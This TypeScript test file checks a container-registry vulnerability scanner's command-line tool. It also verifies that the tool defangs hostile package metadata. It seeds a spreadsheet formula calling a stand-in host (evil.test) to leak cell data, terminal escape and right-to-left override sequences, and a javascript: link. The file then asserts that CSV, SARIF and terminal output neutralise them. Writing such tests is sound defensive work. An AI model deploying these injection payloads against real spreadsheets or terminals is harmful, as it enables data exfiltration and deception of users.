import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { distInfo, layerOf, pushLayers, scanned } from '../../../app/scan-rig.double.ts';
import { advisory, importAll } from '../../../advisories/advisory-rig.double.ts';
import {
  configDescriptor,
  digestOf,
  layerDescriptor,
  ociIndex,
  ociManifest,
  pushBlob,
  putManifest,
} from '../../../../test/http/registry.ts';
import { openCommands } from '../command-rig.double.ts';

type Commands = Awaited<ReturnType<typeof openCommands>>;
let rig: Commands;
let digest: string;

/** What somebody who wants to be obeyed calls a package, a version and a path. */
const hostile = {
  name: `=HYPERLINK("http://evil.test?"&A1)`,
  version: '1.0\u001b]8;;http://evil.test\u001b\\\u202e',
  path: 'app/node_modules/\u001b[2Jevil/package.json',
};

beforeAll(async () => {
  rig = await openCommands({ settings: { 'scanning.parallel': 1 } });
  const { app, url } = rig.server;
  await importAll(
    app.storage.db,
    [
      advisory('PYSEC-2026-1', 'django', '3.2.13', {
        ecosystem: 'PyPI',
        aliases: ['CVE-2026-0001'],
        summary: 'It is \u001b[31mred\u001b[0m.\nAnd two lines',
        references: [
          { type: 'WEB', url: 'javascript:alert(1)' },
          { type: 'WEB', url: 'https://example.test/advisory' },
        ],
        severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }],
      }),
    ],
    { part: 'osv/PyPI', okAt: Date.UTC(2026, 0, 3) },
  );
  await importAll(app.storage.db, [advisory('GHSA-evil', hostile.name, undefined)], {
    part: 'osv/npm',
    okAt: Date.UTC(2026, 0, 2),
  });
  const evil = { name: hostile.path, content: JSON.stringify({ name: hostile.name, version: hostile.version }) };
  digest = await pushLayers(url, 'team/app', 'v1', [layerOf([distInfo('Django', '3.2.1'), evil])]);
  await scanned(url, 'team/app', digest);
}, 120_000);
afterAll(() => rig[Symbol.asyncDispose]());

const sizeOf = async (of: string): Promise<number> => {
  const { db } = rig.server.app.storage;
  return (await db.first<{ size: number }>('SELECT size FROM manifests WHERE digest = ?', [of]))!.size;
};

/** What a terminal obeys: controls but the end of a line, turns of direction, separators. */
const obeyed = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const isTame = (text: string) => !obeyed.test(text.replaceAll(/\r?\n|\t/g, ''));

describe('findings', () => {
  test('are listed from the worst to the least, for people and for programs', async () => {
    const { code, out } = await rig.run(['findings', 'team/app:v1'], { terminal: true });
    expect(code).toBe(0);
    expect(out).toContain('CVE-2026-0001  Critical');
    const found = (await rig.ok('findings', `team/app@${digest}`, '--severity', 'High')) as Record<string, never>[];
    expect(found).toMatchObject([
      {
        vulnerability: 'CVE-2026-0001',
        severity: 'Critical',
        component: { name: 'django', version: '3.2.1' },
        fix: { version: '3.2.13' },
        image: digest,
      },
    ]);
    expect(await rig.ok('findings', 'team/app:v1', '--vulnerability', 'pysec-2026-1')).toHaveLength(1);
    for (const output of ['yaml', 'tsv']) {
      expect((await rig.run(['findings', 'team/app:v1', '-o', output])).out).toContain('CVE-2026-0001');
    }
  });

  test('end a pipeline where nobody has looked yet: that is not the same as nothing found', async () => {
    const { db } = rig.server.app.storage;
    const unread = await pushLayers(rig.server.url, 'team/unread', 'v1', [layerOf([distInfo('Flask', '1.0.0')])]);
    await scanned(rig.server.url, 'team/unread', unread);
    const command = ['findings', 'team/unread:v1', '--fail-on', 'Critical'];
    expect((await rig.run(command)).code).toBe(0);
    const scan = 'SELECT id FROM scans WHERE digest = ?';
    // As it is where the queue is long, or the scan was given up.
    for (const table of ['image_findings', 'image_inventories'])
      await db.change(`DELETE FROM ${table} WHERE scan_id = (${scan}) RETURNING scan_id`, [unread]);
    await db.change(`UPDATE scans SET state = 'failed', error = 'no' WHERE digest = ? RETURNING id`, [unread]);
    const { code, error } = await rig.run(command);
    expect(code).toBe(1);
    expect(error).toContain('It could not be scanned: no.');
    expect((await rig.run(['findings', 'team/unread:v1'])).code).toBe(0);
    const manifests = [{ mediaType: ociManifest, digest: unread, size: await sizeOf(unread) }];
    const index = JSON.stringify({ schemaVersion: 2, mediaType: ociIndex, manifests });
    expect((await putManifest(rig.server.url, 'team/unread', 'all', index, ociIndex)).status).toBe(201);
    const ofAll = await rig.run(['findings', 'team/unread:all', '--fail-on', 'Critical']);
    expect([ofAll.code, ofAll.error]).toEqual([1, expect.stringContaining('Of its 1 images 1 is not scanned.')]);
    expect(await rig.ok('scan', 'start', 'team/unread:all', '--wait')).toMatchObject({ children: [{ state: 'Done' }] });
    expect((await rig.run(['findings', 'team/unread:all', '--fail-on', 'Critical'])).code).toBe(0);
  });

  test('end none because of an attestation that is pushed again, in which nobody will ever find anything', async () => {
    const { url, app } = rig.server;
    const image = await pushLayers(url, 'team/built', 'v1', [layerOf([distInfo('Flask', '1.0.1')])]);
    const [statement, config] = ['{"_type":"https://in-toto.io/Statement/v0.1"}', '{"os":"unknown"}'];
    for (const blob of [statement, config]) await pushBlob(url, 'team/built', blob);
    const layers = [{ ...layerDescriptor(statement), mediaType: 'application/vnd.in-toto+json' }];
    const attestation = JSON.stringify({
      schemaVersion: 2,
      mediaType: ociManifest,
      config: configDescriptor(config),
      layers,
    });
    const digestOfIt = digestOf(attestation);
    expect((await putManifest(url, 'team/built', digestOfIt, attestation)).status).toBe(201);
    const manifests = [image, digestOfIt];
    const sizes = await Promise.all(manifests.map(sizeOf));
    const index = JSON.stringify({
      schemaVersion: 2,
      mediaType: ociIndex,
      manifests: manifests.map((one, at) => ({ mediaType: ociManifest, digest: one, size: sizes[at] })),
    });
    expect((await putManifest(url, 'team/built', 'all', index, ociIndex)).status).toBe(201);
    await rig.ok('scan', 'start', 'team/built:all', '--wait');
    // As it is where the queue is long.
    const later = Date.now() + 3_600_000;
    const waits = `UPDATE scans SET state = 'queued', not_before = ? WHERE digest = ? RETURNING id`;
    expect(await app.storage.db.change(waits, [later, digestOfIt])).toHaveLength(1);
    expect((await rig.run(['findings', 'team/built:all', '--fail-on', 'Critical'])).code).toBe(0);
    expect(await rig.ok('scan', 'show', `team/built@${digestOfIt}`)).toMatchObject({ state: 'NotScannable' });
    await app.storage.db.change(`UPDATE scans SET state = 'done' WHERE digest = ? RETURNING id`, [digestOfIt]);
  });

  test('end a pipeline where there is one too many', async () => {
    expect((await rig.run(['findings', 'team/app:v1', '--fail-on', 'Critical'])).code).toBe(1);
    expect((await rig.run(['findings', 'team/app:v1', '--vulnerability', 'CVE-1', '--fail-on', 'Critical'])).code).toBe(
      0,
    );
  });

  test('hostile metadata does nothing to a terminal, whatever the form', async () => {
    const all = (await rig.ok('findings', 'team/app:v1')) as { component: { name: string } }[];
    expect(all.map(({ component }) => component.name)).toContain(hostile.name);
    for (const more of [
      [],
      ['-o', 'json'],
      ['-o', 'yaml'],
      ['-o', 'tsv'],
      ['--format', 'csv'],
      ['--format', 'sarif'],
    ]) {
      const { out } = await rig.run(['findings', 'team/app:v1', ...more], { terminal: true });
      expect(out).toContain('HYPERLINK');
      expect([more, isTame(out)]).toEqual([more, true]);
    }
    expect(isTame((await rig.run(['sbom', 'team/app:v1'], { terminal: true })).out)).toBe(true);
    expect(isTame((await rig.run(['scan', 'show', 'team/app:v1'], { terminal: true })).out)).toBe(true);
  });

  test('hostile metadata is no formula in a spreadsheet', async () => {
    const { out } = await rig.run(['findings', 'team/app:v1', '--format', 'csv']);
    const lines = out.trimEnd().split('\r\n');
    expect(lines[0]).toStartWith('"vulnerability","severity"');
    expect(lines).toHaveLength(3);
    expect(out).toContain(`"'=HYPERLINK(""http://evil.test?""&A1)"`);
    for (const line of lines)
      for (const cell of line.slice(1, -1).split('","')) expect(cell).not.toMatch(/^\s*[=+\-@|%]/);
  });

  test('hostile metadata is nothing in SARIF but text: no scheme, no other place, no second line', async () => {
    const { out } = await rig.run(['findings', 'team/app:v1', '--format', 'sarif']);
    const sarif = JSON.parse(out) as {
      version: string;
      runs: {
        tool: {
          driver: {
            rules: {
              id: string;
              helpUri?: string;
              shortDescription: { text: string };
              properties: Record<string, unknown>;
            }[];
          };
        };
        results: {
          ruleId: string;
          ruleIndex: number;
          level: string;
          message: { text: string };
          locations: { physicalLocation: { artifactLocation: { uri: string } } }[];
        }[];
      }[];
    };
    const [run] = sarif.runs;
    expect(sarif.version).toBe('2.1.0');
    const { rules } = run!.tool.driver;
    expect(rules.map(({ id }) => id)).toEqual(['CVE-2026-0001', 'GHSA-evil']);
    expect(rules[0]).toMatchObject({
      helpUri: 'https://example.test/advisory',
      shortDescription: { text: expect.stringContaining('red') },
      properties: { 'security-severity': '9.8' },
    });
    for (const { ruleIndex, ruleId, message, locations } of run!.results) {
      expect(rules[ruleIndex]!.id).toBe(ruleId);
      expect(isTame(message.text) && !message.text.includes('\n')).toBe(true);
      expect(locations[0]!.physicalLocation.artifactLocation.uri).toMatch(/^[\w.%~!*'()/-]+$/);
    }
    expect(run!.results.map(({ level }) => level)).toEqual(['error', 'warning']);
    // Of what nobody rates there is no number.
    expect(rules[1]!.properties).not.toHaveProperty('security-severity');
    expect((await rig.refused('findings', 'team/app:v1', '--format', 'csv', '--query', 'x'))[1]).toContain('--format');
  });
});

test('an SBOM is CycloneDX, the same each time', async () => {
  const { out } = await rig.run(['sbom', 'team/app:v1']);
  const document = JSON.parse(out) as { specVersion: string; components: { name: string }[] };
  expect(document.specVersion).toBe('1.6');
  expect(document.components.map(({ name }) => name)).toContain('django');
  expect((await rig.run(['sbom', `team/app@${digest}`])).out).toBe(out);
});

test('which images have a package or a vulnerability is found by name, package URL and alias', async () => {
  const images = [{ repository: 'team/app', digest, tags: ['v1'] }];
  expect(await rig.ok('search', 'component', 'django')).toMatchObject(images);
  expect(await rig.ok('search', 'component', 'pkg:pypi/Django@3.2.1')).toMatchObject(images);
  expect(await rig.ok('search', 'component', 'pkg:pypi/django@9')).toEqual([]);
  expect(await rig.ok('search', 'vulnerability', 'CVE-2026-0001')).toMatchObject(images);
  expect(await rig.ok('search', 'vulnerability', 'PYSEC-2026-1')).toMatchObject(images);
  expect(await rig.ok('search', 'vulnerability', 'cve-2026-0001')).toMatchObject(images);
  expect(await rig.ok('search', 'component', 'Django')).toMatchObject(images);
  expect((await rig.run(['search', 'component', 'django'], { terminal: true })).out).toContain('django 3.2.1');
});

test('scans are shown, asked for and listed; an index says what it consists of', async () => {
  const { url } = rig.server;
  const { out } = await rig.run(['scan', 'show', 'team/app:v1'], { terminal: true });
  expect(out).toContain('team/app:v1 was scanned\n');
  expect(out).toContain('Vulnerabilities: 1 critical, 1 unknown (1 fixable)');
  expect(await rig.ok('scan', 'start', 'team/app:v1', '--wait')).toMatchObject({ state: 'Done', components: 2 });
  expect(await rig.ok('scan', 'list', '--repository', 'team/app')).toMatchObject([
    { digest, tags: ['v1'], state: 'Done', status: 'complete', summary: { critical: 1 } },
  ]);
  expect(await rig.ok('scan', 'list', '--repository', 'team/app', '--state', 'Failed')).toEqual([]);
  expect(await rig.ok('scan', 'status')).toMatchObject({ queued: 0, failed: 0, sbomRepositories: [] });
  expect(await rig.ok('scan', 'update', '--sbom-repository', 'prod/*', '!prod/a')).toMatchObject({
    sbomRepositories: ['prod/*', '!prod/a'],
  });
  expect(await rig.ok('scan', 'update', '--sbom-repository', 'none')).toMatchObject({ sbomRepositories: [] });
  const manifest = { mediaType: ociManifest, digest, size: await sizeOf(digest) };
  const index = JSON.stringify({ schemaVersion: 2, mediaType: ociIndex, manifests: [manifest] });
  expect((await putManifest(url, 'team/app', 'all', index, ociIndex)).status).toBe(201);
  expect(await rig.ok('scan', 'show', 'team/app:all')).toMatchObject({
    state: 'NotScannable',
    children: [{ digest, state: 'Done' }],
  });
  expect(await rig.ok('findings', 'team/app:all')).toHaveLength(2);
  expect((await rig.refused('sbom', 'team/app:all'))[1]).toContain('it is an index');
  const all = Bun.SHA256.hash(index, 'hex');
  const manifests = [{ mediaType: ociIndex, digest: `sha256:${all}`, size: index.length }];
  const outer = JSON.stringify({ schemaVersion: 2, mediaType: ociIndex, manifests });
  expect((await putManifest(url, 'team/app', 'outer', outer, ociIndex)).status).toBe(201);
  expect(await rig.ok('scan', 'show', 'team/app:outer')).toMatchObject({ children: [{ digest, state: 'Done' }] });
  expect(await rig.ok('findings', 'team/app:outer')).toHaveLength(2);
  expect((await rig.run(['findings', 'team/app:outer', '--fail-on', 'Critical'])).code).toBe(1);
  for (const command of [['scan', 'show'], ['findings'], ['sbom']]) {
    for (const image of ['team/app:none', 'nowhere:v1', `team/app@sha256:${'0'.repeat(64)}`]) {
      expect(await rig.refused(...command, image)).toEqual([
        3,
        expect.stringContaining(`there is no ${image} in this registry`),
      ]);
    }
  }
});

test('what came and went since the first scan is shown, the newest first', async () => {
  const { app, url } = rig.server;
  const image = await pushLayers(url, 'team/changes', 'v1', [layerOf([distInfo('Changing', '1.0')])]);
  await scanned(url, 'team/changes', image);
  expect(await rig.ok('scan', 'changes', 'team/changes:v1')).toEqual([]);
  const records = [advisory('PYSEC-2026-9', 'changing', '2.0', { ecosystem: 'PyPI', aliases: ['CVE-2026-0009'] })];
  await importAll(app.storage.db, records, { part: 'osv/PyPI', whole: false });
  for (const end = Date.now() + 45_000; ; await Bun.sleep(100)) {
    const list = (await rig.ok('scan', 'changes', 'team/changes:v1')) as unknown[];
    if (list.length === 1) break;
    if (Date.now() > end) throw new Error('it has not been evaluated within 45 s');
  }
  expect(await rig.ok('scan', 'changes', 'team/changes:v1')).toMatchObject([
    { change: 'opened', vulnerability: 'CVE-2026-0009', purl: 'pkg:pypi/changing@1.0' },
  ]);
  const { out } = await rig.run(['scan', 'changes', 'team/changes:v1', '--top', '1', '-o', 'table'], {
    terminal: true,
  });
  expect(out).toContain('CVE-2026-0009');
  expect((await rig.refused('scan', 'changes', 'team/changes:v1', '--top', '0'))[0]).toBe(2);
});

test('what was given up is listed, with why, and is scanned again', async () => {
  const { url, app } = rig.server;
  const lost = await pushLayers(url, 'team/lost', 'v1', [layerOf([distInfo('Lost', '1')])]);
  await scanned(url, 'team/lost', lost);
  expect(await rig.ok('scan', 'failed')).toEqual([]);
  const error = 'it crashed \u001b[2J';
  await app.storage.db.write((tx) =>
    tx.run(`UPDATE scans SET state = 'failed', attempts = 5, error = ? WHERE digest = ?`, [error, lost]),
  );
  expect(await rig.ok('scan', 'failed')).toMatchObject([
    { repository: 'team/lost', tags: ['v1'], digest: lost, attempts: 5, error },
  ]);
  const { out } = await rig.run(['scan', 'failed', '-o', 'table'], { terminal: true });
  expect(out).toContain('it crashed');
  expect(isTame(out)).toBe(true);
  expect((await rig.run(['scan', 'failed', '--retry'])).error).toContain('1 is scanned again.');
  await scanned(url, 'team/lost', lost);
  expect(await rig.ok('scan', 'failed')).toEqual([]);
});

test('until when the distribution is maintained is shown, and a policy refuses what gets no updates', async () => {
  const { url } = rig.server;
  const release = {
    name: 'etc/os-release',
    content: 'ID=alpine\nVERSION_ID=3.12.1\nPRETTY_NAME="Alpine Linux v3.12"\n',
  };
  const old = await pushLayers(url, 'team/old', 'v1', [layerOf([release, distInfo('Django', '3.2.1')])]);
  await scanned(url, 'team/old', old);
  expect(await rig.ok('scan', 'show', 'team/old:v1', '--query', 'os')).toMatchObject({
    id: 'alpine',
    endOfLife: '2022-05-02T00:00:00.000Z',
  });
  const { out } = await rig.run(['scan', 'show', 'team/old:v1'], { terminal: true });
  expect(out).toContain('System: Alpine Linux v3.12, without updates since 2022-05-02\n');
  const policy = ['--name', 'maintained', '--repository', 'team/old', '--mode', 'enforce', '--os-end-of-life', 'true'];
  await rig.ok('policy', 'create', ...policy);
  expect(await rig.ok('explain', 'team/old:v1')).toMatchObject({
    effect: 'deny',
    reasons: [{ code: 'OS_END_OF_LIFE', message: expect.stringContaining('2022-05-02') }],
  });
});

test('how fresh advisories are is shown with each scan, and what nobody has advisories for', async () => {
  const scan = await rig.ok('scan', 'show', 'team/app:v1');
  expect(scan).toMatchObject({ advisoriesTime: '2026-01-02T00:00:00.000Z' });
  expect(scan).not.toHaveProperty('withoutAdvisories');
  const { url } = rig.server;
  const gem = { name: 'usr/lib/ruby/gems/3.1.0/specifications/rack-2.0.1.gemspec', content: gemspec };
  const other = await pushLayers(url, 'team/gem', 'v1', [layerOf([gem])]);
  await scanned(url, 'team/gem', other);
  expect(await rig.ok('scan', 'show', 'team/gem:v1')).toMatchObject({ components: 1, withoutAdvisories: ['RubyGems'] });
  const { out } = await rig.run(['scan', 'show', 'team/gem:v1'], { terminal: true });
  expect(out).toContain('There are no advisories for RubyGems: nothing is known of these packages');
});

test('a source that a wrong clock has made fresh for years is none, as for policies', async () => {
  const { db } = rig.server.app.storage;
  const setOkAt = (at: number) =>
    db.change(`UPDATE advisory_feeds SET ok_at = ? WHERE id = 'osv/npm' RETURNING id`, [at]);
  await setOkAt(Date.UTC(2100, 0, 1));
  const scan = await rig.ok('scan', 'show', 'team/app:v1');
  await setOkAt(Date.UTC(2026, 0, 2));
  expect(scan).toMatchObject({ advisoriesTime: '2026-01-03T00:00:00.000Z', withoutAdvisories: ['npm'] });
});

const gemspec = 'Gem::Specification.new do |s|\n  s.name = "rack".freeze\n  s.version = "2.0.1"\nend\n';
